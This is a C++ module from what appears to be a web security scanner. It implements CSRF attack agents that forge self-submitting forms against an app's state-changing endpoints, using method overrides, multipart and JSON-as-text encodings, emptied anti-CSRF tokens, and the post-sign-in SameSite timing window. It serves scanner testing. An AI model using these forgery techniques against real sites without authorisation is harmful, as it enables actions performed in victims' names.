// csrf-form: pages of the attacker's with a form that submits itself to the app. The browser adds
// the victim's cookie unless the cookie says otherwise (a sibling host is the same site); what the
// app asks for besides is left out, or sent empty. csrf-window does the same within two minutes of
// the sign-in, when browsers let a cookie without SameSite go with a POST (RFC 6265bis,
// "Lax-allowing-unsafe").
// https://cheatsheetseries.owasp.org/cheatsheets/Cross-Site_Request_Forgery_Prevention_Cheat_Sheet.html
#include <algorithm>

#include "core/attack/every_agent.h"
#include "core/attack/lure.h"
#include "core/attack/own_form.h"

namespace parapet::attack {
namespace {

enum class When { Later, AtOnce };

class CsrfForm final : public Agent {
public:
    explicit CsrfForm(When when) : when_(when) {}

private:
    void run(Target& target) override {
        OwnHost* evil = any_host(target);
        if (evil == nullptr) return;
        std::vector<ForgedForm> forgeries;
        for (Endpoint const* each : unsafe_endpoints(target))
            add_forgeries(forgeries, target, *each, look_at_form(target, *each, As::Attacker));
        if (!victim_signs_in(target)) return;
        // The window is of two minutes.
        target.wait(when_ == When::Later ? std::chrono::minutes(3) : std::chrono::minutes(1));
        Lure lure(target, *evil);
        for (ForgedForm const& each : forgeries) lure.show(submitting(each));
        // Some take a click for the person's own will (Sec-Fetch-User).
        if (!forgeries.empty()) lure.show_to_click(forgeries.front());
        target.note("A page on " + evil->name() + " submitted forms to " + target.surface().host +
                    " as soon as it was opened.");
    }

    static void add_forgeries(std::vector<ForgedForm>& to, Target const& target,
                              Endpoint const& endpoint, OwnForm const& own) {
        std::string action = address_of(target, endpoint);
        auto fields = wanted_fields(endpoint);
        if (endpoint.method != "POST") {
            // Frameworks read the method from a field or from the query.
            action += "?_method=" + endpoint.method;
            fields.push_back({"_method", endpoint.method});
        }
        to.push_back({.action = action, .fields = fields});
        to.push_back({.action = action, .enctype = std::string(kMultipart), .fields = fields});
        to.push_back(json_as_text(action, fields));
        if (endpoint.path.find(':') != std::string::npos) add_moved(to, target, endpoint, own);
        auto with_empty = fields;
        for (http::QueryPair const& token : own.tokens) with_empty.push_back({token.name, ""});
        if (own.tokens.empty()) return;
        to.push_back({.action = action, .fields = with_empty});
        to.push_back(json_as_text(action, with_empty));
    }

    // What stood at this address may have moved to one that only the pages tell. Theirs are the
    // attacker's own; a number is put in the place of a number.
    static void add_moved(std::vector<ForgedForm>& to, Target const& target,
                          Endpoint const& endpoint, OwnForm const& own) {
        for (UnknownForm const& each : own.others) {
            ForgedForm form{.action = app_origin(target) + each.action};
            std::string const number = first_number(endpoint);
            std::size_t const at =
                form.action.find_first_of("0123456789", app_origin(target).size());
            if (at != std::string::npos) {
                std::size_t const end = form.action.find_first_not_of("0123456789", at);
                form.action.replace(at, std::min(end, form.action.size()) - at, number);
            }
            for (http::QueryPair field : each.fields) {
                bool const is_number =
                    !field.value.empty() &&
                    field.value.find_first_not_of("0123456789") == std::string::npos;
                if (is_number) field.value = number;
                if (is_number || field.value.size() < 16) form.fields.push_back(std::move(field));
            }
            to.push_back(std::move(form));
        }
    }

    static std::string first_number(Endpoint const& endpoint) {
        for (Parameter const& each : endpoint.parameters)
            if (is_number(each)) return each.sample;
        return "1";
    }

    When when_;
};

}  // namespace

std::unique_ptr<Agent> make_csrf_form() { return std::make_unique<CsrfForm>(When::Later); }
std::unique_ptr<Agent> make_csrf_window() { return std::make_unique<CsrfForm>(When::AtOnce); }

}  // namespace parapet::attack
